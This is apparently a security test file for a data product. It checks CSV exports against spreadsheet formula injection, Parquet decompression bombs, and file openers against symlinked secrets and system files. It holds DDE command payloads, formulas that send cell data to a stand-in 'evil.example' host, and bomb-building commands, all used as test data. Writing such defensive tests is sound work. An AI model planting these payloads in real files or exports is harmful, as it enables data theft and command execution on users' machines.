/** Files that go out and come in: cells that a spreadsheet would run, and databases that are larger than they look. */
import {
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { DatabaseSync } from "node:sqlite";
import { afterAll, beforeAll, expect, it } from "vitest";
import { openDatabase } from "../../src/database/open-database.ts";
import { toCsv } from "../../src/protocol/csv.ts";
import { runDuckdb } from "../fixtures/duckdb-engine.ts";
import type { Product } from "../fixtures/product.ts";
import { openAttacks } from "./attacks.ts";
import { readMemory } from "./read-memory.ts";
import { startTarget } from "./target.ts";

const { attempt } = openAttacks("files");
const folder = mkdtempSync(join(tmpdir(), "thoth-files-"));
let product: Product;
beforeAll(async () => {
  product = await startTarget({ THOTH_PRESTART: "0" });
}, 300_000);
afterAll(async () => {
  await product?.remove();
  rmSync(folder, { recursive: true, force: true });
});

const payloads = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1)",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?"&A1,"x")',
  '=IMPORTXML("http://evil.example","//a")',
  "=WEBSERVICE(A1)",
  "-2+3+cmd|' /C calc'!A0",
  "@import",
];
const disguises: [string, (text: string) => string][] = [
  ["as it is", (text) => text],
  ["behind a tab", (text) => `\t${text}`],
  ["behind a line feed", (text) => `\n${text}`],
  ["behind a return", (text) => `\r${text}`],
  ["behind a blank", (text) => ` ${text}`],
  ["behind a hard blank", (text) => `\u00a0${text}`],
  ["behind a byte order mark", (text) => `\ufeff${text}`],
  ["behind an invisible character", (text) => `\u200b\u2060${text}`],
  ["behind a direction mark", (text) => `\u202e${text}`],
  ["behind a NUL", (text) => `\0${text}`],
  ["in full-width signs", (text) => String.fromCharCode(text.charCodeAt(0) + 0xfee0) + text.slice(1)],
  ["behind a comma", (text) => `x,${text}`],
  ["behind a semicolon", (text) => `x;${text}`],
  ["behind a tab in the middle", (text) => `x\t${text}`],
  ["in a second line", (text) => `x\r\n${text}`],
  ["behind a quote", (text) => `x"${text}`],
  ["behind a closing quote and comma", (text) => `x",${text},"`],
  ["behind a closing quote and semicolon", (text) => `";${text};"`],
];

/** Cells as a spreadsheet reads them that divides by this character. */
function cellsOf(csv: string, separator: string): string[] {
  const cells: string[] = [];
  let cell = "";
  let quoted = false;
  for (let at = 0; at < csv.length; at += 1) {
    const character = csv[at] as string;
    if (quoted) {
      if (character === '"' && csv[at + 1] === '"') {
        cell += '"';
        at += 1;
      } else if (character === '"') quoted = false;
      else cell += character;
    } else if (character === '"' && cell === "") quoted = true;
    else if (character === separator || character === "\n" || character === "\r") {
      cells.push(cell);
      cell = "";
    } else cell += character;
  }
  return [...cells, cell];
}
const runs = (cell: string) => /^[\s\p{C}]*[=+\-@\uff1d\uff0b\uff0d\uff20]/u.test(cell);

it("writes no cell into a CSV that a spreadsheet would run, in whatever way it divides", async () => {
  for (const payload of payloads) {
    for (const [how, disguise] of disguises) {
      const text = disguise(payload);
      for (const separator of [",", ";", "\t"]) {
        await attempt(`${JSON.stringify(payload)} ${how}, divided by ${JSON.stringify(separator)}`, () => {
          const csv = toCsv({ columns: [{ name: text, type: "" }], rows: [[text], [text]] });
          // Divided by commas every cell counts; otherwise those that our quotes don't hold together.
          expect(cellsOf(csv, separator).filter(runs)).toEqual([]);
        });
      }
    }
  }
});

it("a Parquet file that unfolds to gigabytes is looked at in bounds, and the server stays small", async () => {
  const strings = join(folder, "strings.parquet");
  const rows = join(folder, "rows.parquet");
  await runDuckdb(join(folder, "maker.duckdb"), [
    `COPY (SELECT repeat('x', 10000000) AS big FROM range(100)) TO '${strings}' (COMPRESSION zstd)`,
    `COPY (SELECT 7 AS a, 'the same' AS b FROM range(20000000)) TO '${rows}' (COMPRESSION zstd)`,
  ]);
  expect(statSync(strings).size).toBeLessThan(20_000_000);
  let most = 0;
  const ours = () =>
    readdirSync("/proc").filter((pid) => {
      if (!/^\d+$/.test(pid)) return false;
      try {
        return new RegExp(`^PPid:\\s+${product.pid}$`, "m").test(readFileSync(`/proc/${pid}/status`, "utf8"));
      } catch {
        return false; // gone meanwhile
      }
    });
  const watch = setInterval(() => {
    for (const pid of ours()) {
      try {
        most = Math.max(most, readMemory(Number(pid)));
      } catch {
        // Gone meanwhile.
      }
    }
  }, 50);
  try {
    const before = readMemory(product.pid);
    for (const [name, file] of [
      ["strings", strings],
      ["rows", rows],
    ] as const) {
      await attempt(`Parquet bomb ${name}: adding it, its catalog and its rows`, async () => {
        const added = await product.call<object>("/api/workspaces", "POST", { name, file });
        expect(added.status).toBeLessThan(500);
        for (const path of ["catalog", `rows?table=${name}`]) {
          const answer = await product.call<object>(`/api/workspaces/${name}/${path}`);
          expect(answer.status, path).toBeLessThan(500);
          expect(JSON.stringify(answer.body).length).toBeLessThan(2_000_000);
        }
      });
      await attempt(`Parquet bomb ${name}: a query for everything`, async () => {
        const database = await openDatabase({ engine: "duckdb", file });
        try {
          const read = await database.read(`SELECT * FROM ${name} ORDER BY 1 DESC`, {
            maxRows: 50,
            maxBytes: 20_000,
            deadlineMs: 20_000,
          });
          if (read.ok) expect(JSON.stringify(read.result).length).toBeLessThan(400_000);
        } finally {
          await database.close();
        }
      });
    }
    await attempt("the server's own memory", () => expect(readMemory(product.pid) - before).toBeLessThan(400));
    await attempt("a reader's memory", () => expect(most).toBeLessThan(2600));
    await attempt("the server lives", async () => expect((await product.call("/api/health")).status).toBe(200));
  } finally {
    clearInterval(watch);
  }
}, 600_000);

it("a file that is no database, or one that lies about itself, ends as a fault with words", async () => {
  const good = join(folder, "good.sqlite");
  const database = new DatabaseSync(good);
  database.exec("CREATE TABLE t (a TEXT); INSERT INTO t VALUES ('x')");
  database.close();
  const bytes = readFileSync(good);
  const damaged = Buffer.from(bytes);
  damaged.fill(0xff, 100, 400);
  const looping = new DatabaseSync(join(folder, "looping.sqlite"));
  looping.exec(
    "CREATE TABLE t (a); CREATE VIEW endless AS WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) SELECT i FROM n",
  );
  looping.close();
  mkdirSync(join(folder, "linked"));
  writeFileSync(join(folder, "outside.csv"), "secret\nPLANTED-BESIDE\n");
  writeFileSync(join(folder, "linked", "own.csv"), "a\n1\n");
  symlinkSync(join(product.home, "token"), join(folder, "linked", "token.csv"));
  const cases: [string, string][] = [];
  const write = (name: string, content: string | Buffer) => {
    writeFileSync(join(folder, name), content);
    cases.push([name, join(folder, name)]);
  };
  write("empty.sqlite", "");
  write("random.sqlite", Buffer.from(Array.from({ length: 8192 }, (_, at) => (at * 7919) % 256)));
  write("cut.sqlite", bytes.subarray(0, 1000));
  write("damaged.sqlite", damaged);
  write("header.sqlite", "SQLite format 3\0");
  write("text.parquet", "PAR1 this is none PAR1");
  write(
    "length.parquet",
    Buffer.concat([Buffer.from("PAR1"), Buffer.from([0xff, 0xff, 0xff, 0x7f]), Buffer.from("PAR1")]),
  );
  write("nul.csv", Buffer.alloc(100_000));
  write("wide.csv", `${Array.from({ length: 3000 }, (_, at) => `c${at}`).join(",")}\n`);
  write("quote.csv", `a\n"${"x".repeat(3_000_000)}`);
  write("deep.json", "[".repeat(100_000));
  cases.push(
    ["looping", join(folder, "looping.sqlite")],
    ["a device", "/dev/zero"],
    ["a process", "/proc/self/environ"],
    ["a folder with a link to the token", join(folder, "linked")],
    ["the token", join(product.home, "token")],
  );
  for (const [at, [what, file]] of cases.entries()) {
    await attempt(`opening ${what}`, async () => {
      const name = `odd${at}`;
      const added = await product.call<object>("/api/workspaces", "POST", { name, file });
      expect(added.status).toBeLessThan(500);
      let told = JSON.stringify(added.body);
      if (added.status === 201) {
        const catalog = await product.call<{ tables?: { name: string }[] }>(`/api/workspaces/${name}/catalog`);
        expect(catalog.status).toBeLessThan(500);
        told += JSON.stringify(catalog.body).slice(0, 3_000_000);
        for (const table of (catalog.body.tables ?? []).slice(0, 3)) {
          const rows = await product.call<object>(
            `/api/workspaces/${name}/rows?table=${encodeURIComponent(table.name)}`,
          );
          expect([200, 400, 404, 409, 422, 504]).toContain(rows.status);
          told += JSON.stringify(rows.body);
        }
      }
      expect(told).not.toContain(product.token);
      expect(told).not.toContain("PATH=");
      expect(told).not.toMatch(/node:internal|\.ts:\d/);
    });
  }
  await attempt("the server lives", async () => expect((await product.call("/api/health")).status).toBe(200));
}, 600_000);
